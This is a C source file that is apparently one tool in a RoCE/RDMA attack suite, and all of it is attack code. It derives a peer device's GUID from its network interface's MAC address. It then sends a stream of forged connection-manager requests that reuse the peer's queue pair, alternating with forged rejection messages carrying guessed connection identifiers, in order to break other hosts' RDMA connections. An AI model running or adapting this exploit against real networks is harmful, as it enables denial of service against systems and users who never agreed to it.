/*
 * Says that a connection is over, in the name of its peer's host, as any program of that host can:
 * by requests that use the peer's queue pair for something new, and by rejections that name one
 * identifier of the two.
 *
 * usage: stale SECONDS FROM TO SLOT PORT QP_OF_PEER
 */
#include "roce.h"

#include <ifaddrs.h>
#include <netpacket/packet.h>

enum { ID_BITS = 22 };

/* The GUID of the device with an address: its interface's MAC as EUI-64. */
static uint64_t guid_of(struct in_addr address)
{
	struct ifaddrs *all;
	const char *name = NULL;
	uint64_t guid = 0;

	MUST(getifaddrs(&all));
	for (struct ifaddrs *i = all; i != NULL; i = i->ifa_next)
		if (i->ifa_addr != NULL && i->ifa_addr->sa_family == AF_INET &&
		    ((struct sockaddr_in *)(void *)i->ifa_addr)->sin_addr.s_addr == address.s_addr)
			name = i->ifa_name;
	EXPECT(name != NULL);
	for (struct ifaddrs *i = all; i != NULL; i = i->ifa_next)
		if (i->ifa_addr != NULL && i->ifa_addr->sa_family == AF_PACKET && strcmp(i->ifa_name, name) == 0) {
			const unsigned char *mac = ((struct sockaddr_ll *)(void *)i->ifa_addr)->sll_addr;

			guid = (uint64_t)(mac[0] ^ 2) << 56 | (uint64_t)mac[1] << 48 | (uint64_t)mac[2] << 40 | 0xfffe000000ull;
			guid |= (uint64_t)mac[3] << 16 | (uint64_t)mac[4] << 8 | mac[5];
		}
	EXPECT(guid != 0);
	freeifaddrs(all);
	return guid;
}

int main(int argc, char **argv)
{
	static struct sender sender;
	uint32_t slot, service, qp;
	uint64_t guid;

	if (argc != 7)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	slot = (uint32_t)number(argv[4], 1, 1023);
	service = 0x01060000 | (uint32_t)number(argv[5], 1, 65535);
	qp = (uint32_t)number(argv[6], 1, 0xffffff);
	guid = guid_of(sender.from.sin_addr);
	for (uint32_t id = 0; goes_on(); id++) {
		unsigned char *rej;

		/* The device takes what it has time for, so few of them must do. */
		usleep(500);
		if (id % 2 == 0) {
			put_request(&sender, service, guid, qp);
		} else {
			rej = put_mad(&sender, CM_REJ);
			put(rej + 4, slot << ID_BITS | id, 4);
			put(rej + 10, 28, 2);
		}
		launch_mad(&sender);
	}
	tell();
	return 0;
}
